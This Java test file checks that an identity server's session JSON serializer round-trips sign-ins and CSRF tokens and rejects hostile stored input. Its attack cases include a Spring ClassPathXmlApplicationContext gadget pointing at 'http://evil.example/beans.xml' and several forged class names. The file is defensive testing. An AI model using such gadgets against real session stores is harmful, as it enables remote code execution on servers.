package com.hubify.identity.server.session;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

import com.hubify.identity.server.account.AccountId;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.core.io.ClassPathResource;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.security.core.context.SecurityContextImpl;
import org.springframework.security.web.csrf.CsrfToken;
import org.springframework.security.web.csrf.DefaultCsrfToken;

class SessionJsonTests {

    private static final SignInAuthentication SIGN_IN = new SignInAuthentication(
            new AccountId("user_2abc"),
            "session",
            Instant.parse("2026-04-14T10:00:00.123456789Z"),
            Instant.parse("2026-04-14T09:59:59.5Z"));

    private final SessionJson json = new SessionJson();

    @Test
    void namesTypesAndNoClasses() {
        String context = text(new SecurityContextImpl(SIGN_IN));
        String csrf = text(new DefaultCsrfToken("X-CSRF-TOKEN", "_csrf", "token"));

        assertThat(context).contains("\"type\":\"sign-in\"").doesNotContain("springframework", "hubify");
        assertThat(csrf).contains("\"type\":\"csrf-token\"").doesNotContain("springframework", "hubify");
        assertThat(read(context)).isEqualTo(new SecurityContextImpl(SIGN_IN));
        assertThat(((CsrfToken) read(csrf)).getToken()).isEqualTo("token");
    }

    @Test
    void keepsTextsAndNumbersAsTheyAre() {
        assertThat(read(text("2026-04-14T10:00:00Z"))).isEqualTo("2026-04-14T10:00:00Z");
        assertThat(read(text(43_200))).isEqualTo(43_200);
        assertThat(read(text(1_795_933_138_646L))).isEqualTo(1_795_933_138_646L);
        assertThat(json.serialize(null)).isEmpty();
        assertThat(json.deserialize(new byte[0])).isNull();
        assertThat(json.deserialize(null)).isNull();
    }

    @Test
    void storesNothingWithoutAName() {
        assertThatIllegalStateException().isThrownBy(() -> json.serialize(new MockHttpServletRequest()));
    }

    /** A running server of release 0.1 wrote this. An update must sign no one out. */
    @Test
    void readsASignInOfTheReleaseBefore() throws IOException {
        String recorded =
                new ClassPathResource("documents/8af877b/session.json").getContentAsString(StandardCharsets.UTF_8);

        SecurityContextImpl context = (SecurityContextImpl) read(recorded);

        assertThat(context.getAuthentication())
                .isEqualTo(new SignInAuthentication(
                        new AccountId("user_2hUbIfYsOlOsAmPlEuSeR000001"),
                        "R8AD8ydan2K0uzUKRc_ojQ",
                        Instant.parse("2026-11-29T06:18:58.646663501Z"),
                        null));
    }

    /**
     * Attack: who can write to the store names a class whose construction does harm, in today's form or in that of the release
     * before, or puts a known one where it doesn't belong. What can't be read is absent.
     */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
                        + "\"configLocation\":\"http://evil.example/beans.xml\"}",
                "{\"type\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}",
                "{\"type\":\"com.hubify.identity.server.session.SignInDocument\","
                        + "\"account\":\"user_2abc\",\"sessionId\":\"s\",\"signedInAt\":\"2026-04-14T10:00:00Z\"}",
                "[\"java.util.HashMap\",{}]",
                "{\"@class\":\"org.springframework.security.core.context.SecurityContextImpl\",\"authentication\":"
                        + "{\"@class\":\"evil.Class\",\"account\":\"user_2abc\",\"sessionId\":\"s\",\"signedInAt\":1}}",
                "{\"@class\":\"com.hubify.identity.server.session.SignInAuthentication\",\"account\":\"user_2abc\","
                        + "\"sessionId\":\"s\",\"signedInAt\":1}",
                "{\"@class\":[]}",
                "{\"type\":\"sign-in\"}",
                "{\"type\":\"sign-in\",\"account\":\"\",\"sessionId\":\"s\",\"signedInAt\":1}",
                "{\"type\":\"sign-in\",\"account\":\"user_2abc\",\"account\":\"user_2def\",\"sessionId\":\"s\",\"signedInAt\":1}",
                "{\"type\":\"sign-in\",\"acc",
                "{}",
                "[]",
                "null",
                "1.5",
                "not json",
                "\u0000\uFFFD"
            })
    void buildsNothingThatIsNotListed(String stored) {
        assertThat(json.deserialize(stored.getBytes(StandardCharsets.UTF_8))).isNull();
    }

    private String text(Object attribute) {
        return new String(json.serialize(attribute), StandardCharsets.UTF_8);
    }

    private Object read(String stored) {
        return Objects.requireNonNull(json.deserialize(stored.getBytes(StandardCharsets.UTF_8)));
    }
}
